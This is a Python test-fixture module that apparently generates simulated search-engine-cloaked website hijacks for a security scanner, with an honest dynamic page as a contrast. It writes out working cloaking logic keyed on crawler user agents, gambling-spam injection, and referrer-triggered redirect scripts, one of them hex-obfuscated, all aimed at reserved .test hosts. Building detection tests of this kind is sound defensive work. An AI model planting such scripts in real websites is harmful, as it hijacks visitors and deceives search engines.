"""Cloaked hijacks (挂马/篡改 shown only to search engines) and the honest pages that look like them.

* ``cloaked_home``: the home page answers a search engine's crawler (User-Agent Baiduspider,
  Sogou web spider, 360Spider, YisouSpider, Bytespider, Googlebot, bingbot) with gambling text in its
  title, keywords and body and links to off-site hosts; everyone else gets the normal page.
* ``referrer_script``: a page whose inline script, only when ``document.referrer`` is a Baidu / Sogou /
  so.com results page, sends the visitor to an off-site host (``window.location.href``).
* ``referrer_rewrite``: the same test written with hex-escaped names, rewriting the page itself
  (``document.write`` of a full-screen spam layer) and then ``location.replace``.
* ``referrer_server``: the server looks at the Referer header and only for a search page answers a
  script redirect to an off-site host.
* ``dynamic_page``: no hijack — ads for the site's own services in a rotating banner, a clock, a
  session id and a visit counter that change on every request, and a 流量统计 script that sends
  ``document.referrer`` to the site's own counter.

The off-site hosts are reserved ``.test`` names the test pins to 127.0.0.1 (``--resolve``): nothing
leaves the machine.
"""

from __future__ import annotations

import itertools
import random
import re

from .portal import Expect, Portal
from .server import Response

SPAM_HOSTS = ("www.amxpj-888.test", "www.hgty-bet.test", "www.xpj-yule.test")
SPIDERS = re.compile(r"baiduspider|sogou|360spider|yisouspider|bytespider|googlebot|bingbot", re.I)
SEARCH_REFERRER = re.compile(r"(baidu\.com|sogou\.com|so\.com|sm\.cn)/", re.I)
SPAM = ("澳门新葡京娱乐城", "皇冠体育在线投注", "真人百家乐官网", "北京赛车pk10计划")


def spam_block() -> str:
    links = "".join(f'<a href="http://{h}/?id=88" target="_blank">{w}</a> ' for h, w in zip(itertools.cycle(SPAM_HOSTS), SPAM))
    return f'<div class="links">{links}</div><p>{"，".join(SPAM)}，注册即送88元彩金，24小时在线客服。</p>'


def cloaked_home(normal: bytes, p: Portal):
    """Wrap the normal home page: crawlers of search engines get the spam version."""
    html = normal.decode("utf-8")
    spam_title = "澳门新葡京-皇冠体育-真人百家乐官网【官方入口】"
    spammy = re.sub(r"<title>.*?</title>", f"<title>{spam_title}</title>"
                    f'<meta name="keywords" content="{"，".join(SPAM)}">', html, count=1)
    spammy = spammy.replace("<body>", "<body>" + spam_block(), 1).encode("utf-8")

    def answer(req):
        ua = req.headers.get("user-agent", "")
        return Response(200, spammy if SPIDERS.search(ua) else normal)
    p.expect.append(Expect("content.cloaked_hijack", ["/", "/index.html"], list(SPAM) + list(SPAM_HOSTS), True,
                           "home page serves gambling spam to search-engine crawlers only"))
    return answer


def referrer_script(target_host: str = SPAM_HOSTS[2]) -> str:
    return ('<script type="text/javascript">var s = document.referrer;'
            'if (s.indexOf("baidu.com") > -1 || s.indexOf("sogou.com") > -1 || s.indexOf("so.com") > -1) {'
            f'  window.location.href = "http://{target_host}/?from=gov"; }}</script>')


def referrer_rewrite(target_host: str = SPAM_HOSTS[1]) -> str:
    hexed = "".join(f"\\x{ord(c):02x}" for c in "referrer")
    host = "".join(f"\\x{ord(c):02x}" for c in target_host)
    layer = ('<div style="position:fixed;left:0;top:0;width:100%;height:100%;z-index:99999;background:#fff">'
             '<iframe src="http://' + "'+_h+'" + '/" width="100%" height="100%" frameborder="0"></iframe></div>')
    return ("<script>(function(){var _r=document['" + hexed + "'],_h='" + host + "';"
            "if(/(baidu|sogou|so|sm)\\.(com|cn)\\//i.test(_r)){document.write('<title>皇冠体育在线投注</title>"
            + layer + "');setTimeout(function(){location.replace('http://'+_h+'/');},1500);}})();</script>")


def referrer_server(normal: bytes, target_host: str = SPAM_HOSTS[0]):
    hijack = (f'<html><head><meta charset="utf-8"><title>跳转中</title></head><body>'
              f'<script>window.location.href="http://{target_host}/";</script></body></html>').encode()

    def answer(req):
        return Response(200, hijack if SEARCH_REFERRER.search(req.headers.get("referer", "")) else normal)
    return answer


def dynamic_page(p: Portal, title: str, body: str, meta: dict, seed: int):
    """A page that differs on every request for honest reasons (clock, session id, banner, counter)."""
    rng = random.Random(seed)
    counter = itertools.count(1_234_567)
    banners = ["下载“政务服务”APP，掌上办事更便捷", "12345政务服务便民热线 24小时为您服务", "“一网通办”企业开办全程网办",
               "我为政府网站找错 欢迎提出意见建议"]

    def answer(req):
        n = next(counter)
        sid = "%032x" % rng.getrandbits(128)
        clock = f"2026-03-15 {rng.randint(8, 20):02d}:{rng.randint(0, 59):02d}:{rng.randint(0, 59):02d}"
        ad = rng.choice(banners)
        extra = (f'<div class="banner"><a href="/bsfw/index.html"><img src="/stat/banner.gif" alt="{ad}">{ad}</a></div>'
                 f'<div class="clock">当前时间：{clock}</div><div class="count">您是第 {n} 位访问者</div>'
                 f'<input type="hidden" name="sessionid" value="{sid}">'
                 f'<script>var _sid = "{sid}"; var _ref = document.referrer;'
                 f'new Image().src = "/stat/visit.gif?sid=" + _sid + "&ref=" + encodeURIComponent(_ref);</script>')
        return Response(200, p.page(title, extra + body, meta).encode("utf-8"))
    return answer


GIF = (b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,"
       b"\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;")
